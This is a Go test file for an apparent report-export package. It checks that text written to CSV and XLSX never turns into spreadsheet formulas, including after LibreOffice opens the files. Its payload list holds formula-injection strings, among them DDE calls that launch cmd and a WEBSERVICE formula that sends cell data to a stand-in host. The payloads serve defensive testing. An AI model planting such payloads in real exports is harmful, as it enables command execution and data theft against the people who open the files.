package files

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"rapport/app/report"
)

// attacks are texts that spreadsheets have been made to run.
func attacks() []string {
	return []string{`=cmd|' /C calc'!A0`, `=WEBSERVICE("http://x.example/"&A1)`, `=HYPERLINK("http://x.example","pay")`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`, "\t=1+1", "\r=DDE(\"a\";\"b\";\"c\")", `=IMPORTXML("http://x.example","//a")`, `"=1+1`, `;=1+1`}
}

// No text of the firm's becomes a formula, neither in CSV nor in a workbook, and where LibreOffice is at hand, not after it opened them either. The
// control is the same text written as it is.
func TestTX04_NothingBecomesAFormula(t *testing.T) {
	table := report.Table{Columns: []report.Column{{Title: "Name"}}}
	for _, text := range attacks() {
		table.Rows = append(table.Rows, report.Row{Cells: []report.Cell{report.Text(text)}})
	}
	var asCSV, asBook bytes.Buffer
	if err := WriteCSV(&asCSV, Of("Partners", table)); err != nil {
		t.Fatal(err)
	}
	if err := WriteXLSX(&asBook, Of("Partners", table)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(asCSV.String(), "\xEF\xBB\xBF"))).ReadAll()
	if err != nil || len(rows) != len(attacks())+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		if runs(row[0]) {
			t.Errorf("CSV: %q", row[0])
		}
	}
	if sheet := sheetText(t, asBook.Bytes()); strings.Contains(sheet, "<f>") || strings.Contains(sheet, "<f ") || strings.Contains(sheet, "hyperlink") {
		t.Errorf("a formula in the workbook:\n%s", sheet)
	}
	if !runs(attacks()[0]) || !runs("\t=1+1") {
		t.Error("a formula is not noticed")
	}
	converted(t, map[string][]byte{"a.csv": asCSV.Bytes(), "b.xlsx": asBook.Bytes()})
}

// runs tells whether a spreadsheet takes a cell of CSV for a formula.
func runs(cell string) bool { return cell != "" && strings.IndexByte(triggers, cell[0]) >= 0 }

// sheetText is all of the XML of a workbook's sheets.
func sheetText(t *testing.T, book []byte) (text string) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		text += string(raw)
	}
	if !strings.Contains(text, "<row") {
		t.Fatal("no sheet was found")
	}
	return text
}

// converted lets LibreOffice open files and looks for formulas in what it makes of them.
func converted(t *testing.T, all map[string][]byte) {
	office, err := exec.LookPath("soffice")
	if err != nil {
		t.Log("LibreOffice is not installed: only the files themselves were looked at")
		return
	}
	dir := t.TempDir()
	for name, raw := range all {
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, raw, 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(office, "--headless", "-env:UserInstallation=file://"+dir+"/home", "--convert-to", "fods", "--outdir", dir, path)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, out)
		}
		made, err := os.ReadFile(strings.TrimSuffix(path, filepath.Ext(path)) + ".fods")
		if err != nil || strings.Contains(string(made), "table:formula") {
			t.Errorf("%s: a formula after LibreOffice opened it (%v)", name, err)
		}
	}
}
